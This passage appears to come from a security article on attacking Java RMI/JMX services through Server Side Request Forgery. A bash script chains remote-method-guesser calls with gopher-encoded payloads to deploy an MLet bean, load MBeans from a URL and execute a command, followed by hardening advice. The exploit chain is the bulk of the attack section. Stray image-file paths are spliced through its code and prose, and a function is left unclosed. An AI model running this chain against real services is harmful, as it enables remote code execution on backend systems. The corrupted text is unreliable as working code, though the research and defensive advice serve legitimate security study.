ARG_CREATE_BEAN='"javax.management.loading.MLet", null, null'ARG_FROM_URL='new javax.management.ObjectName("DefaultDomain:type=MLet"), "getMBeansFromURL", new java.rmi.MarshalledObject(new Object[] {""}), new String[] { String.class.getName() }, null'
ARG_EXEC='new javax.management.ObjectName("MLetTonkaBean:name=TonkaBean,id=1"), "executeCommand",new java.rmi.MarshalledObject(new Object[] {"id"}), new String[] { String.class.getName() }, null'

function ssrf() {
    curl "$1" --silent | xxd -p -c10000

echo "[+] Performing lookup operation... "
PAYLOAD=$(rmg enum 1090 --scan-action list --bound-name jmxrmi --ssrf --gopher --encode --raw)
RESULT=$(ssrf "${PAYLOAD}")

echo "[+]   Parsing lookup result... "
PARSED=$(rmg enum 1090 --scan-action list --bound-name jmxrmi --no-color --ssrf-response "${RESULT}")
JMX_PORT=$(echo "${PARSED}" | head -n 5 | tail -n1 | cut -f3 -d':' | cut -f1 -d' ')
OBJID="[$(echo "${PARSED}" | head -n 5 | tail -n1 | cut -f3 -d'[')"
echo "[+]   JMX Port: ${JMX_PORT}"
echo "[+]   JMX ObjID: ${OBJID}"

echo "[+] Calling newClient()..."
PAYLOAD=$(rmg call ${JMX_PORT} 'null' --objid "${OBJID}" --signature "${SIG_NEW_CLIENT}" --ssrf --encode --gopher --raw)
RESULT=$(ssrf "${PAYLOAD}")

echo "[+]   Parsing newClient() result..."
RESULT=$(rmg call ${JMX_PORT} 'null' --objid "${OBJID}" --signature "${SIG_NEW_CLIENT}" --plugin GenericPrint.jar --no-color --ssrf-response "${RESULT}")OBJID="[$(echo "${RESULT}" | head -n 4 | tail -n 1 | cut -f3 -d'[')"
echo "[+]   Obtained ObjID:${OBJID}"

echo "[+] Deploying MLet..."
PAYLOAD=$(rmg call localhost ${JMX_PORT} "${ARG_CREATE_BEAN}" --signature "${SIG_CREATE_BEAN}" --objid "${OBJID}" --ssrf --gopher --encode --raw)
ssrf "${PAYLOAD}" &> /dev/null

echo "[+] Calling getMBeansFromURL()..."
PAYLOAD=$(rmgcall localhost ${JMX_PORT} "${ARG_FROM_URL}" --signature "${SIG_INVOKE}" --objid "${OBJID}" --ssrf --gopher --encode --raw)
ssrf "${PAYLOAD}" &> /dev/null

echo '[+] Calling execute("id"): '
PAYLOAD=$(rmg call localhost ${JMX_PORT} "${ARG_EXEC}" --signature "${SIG_INVOKE}" --objid "${OBJID}" --ssrf --gopher --encode --raw)
RESULT=$(ssrf "${PAYLOAD}")

rmg call localhost ${JMX_PORT} "${ARG_EXEC}" --signature "${SIG_INVOKE}" --objid "${OBJID}" --ssrf-response ${RESULT} --plugin GenericPrint.jar


Preventing Server Side Request Forgery is a topic on it’s own and several useful resources are available [8][9][10]. However, the attack types discussed in this article demonstrate why it is so important to secure backend services as well. With only a few configuration changes, none of the above discussed attacks would have worked. Here are some recommendations for securing RMI services:

  1. Make sure you use an up to date version of Java. The security level of Java RMI is constantly improving and outdated Java versions often contain known vulnerabilities. If you are not able to update, you should at least evaluate your current security level by looking for known vulnerabilities for your installed Java version and usage of vulnerability scanners like remote-method-guesser [3]. Depending on the installed version of Java, workarounds may be possible.
  2. Enable TLS protected communication for all RMIendpoints. Despite Java RMI sends mostly binary data that does not look readable, it is actually a plain text protocol. All information passed to and received from an RMI service is sent in plain text and can be read and modified by an attacker with a suitable position inside the network. If possible, you should also consider enabling certificate based authentication for your RMI services.
  3. Implement authentication for your RMI services. All remote objects that perform sensitive operations should require users to authenticate before they can be used. Especially JMX services should be password protected and use the role model of JMX to only grant the required amount of privileges to authenticated users [11].
  4. Make use of deserialization filters for your RMI services and only allow required types to be deserialized [12]. Also make sure that your applications and third party libraries do not contain classes that perform dangerous actions during deserialization.


In this article we demonstrated that SSRF attacks on Java RMI can work under certain circumstances:

  1. The SSRF vulnerability needs to allow arbitrary bytes being sent to the backend service (enables attacks on default RMI components like the RMI registry, the DGC or the Activation system)
  2. The SSRF vulnerability needs to return responses from the backend service and accept arbitrary bytes within them(enables attacks on all RMI endpoints including JMX and custom remote objects)

If both of these conditions are satisfied, a backend RMI service can be consumed as with a direct connection using the SSRF vulnerability. If youever encounter such a service, I would love tohear your experiences regarding SSRF based RMI attacks :)